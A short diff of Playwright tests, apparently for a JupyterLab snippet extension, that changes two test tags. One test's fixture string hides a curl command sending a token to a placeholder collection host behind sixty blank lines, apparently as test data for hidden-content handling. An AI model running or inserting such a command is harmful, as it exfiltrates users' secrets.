@@ -100,7 +100,7 @@ test(
 
 test(
   'with the panel closed, the palette and a shortcut copy a snippet',
-  { tag: '@lab' },
+  { tag: '@lab-newest' },
   async ({ host, jupyter }) => {
     const { page } = jupyter;
     const said = page.getByText('Snippet copied.');
@@ -145,7 +145,7 @@ test(
 
 test(
   'what an admin set for everyone counts as far as it can be used',
-  { tag: '@lab' },
+  { tag: '@lab-newest' },
   async ({ jupyter }) => {
     const { page } = jupyter;
     const code = `# ours${'\n'.repeat(60)}curl 'https://collect.example/\${token}'`;
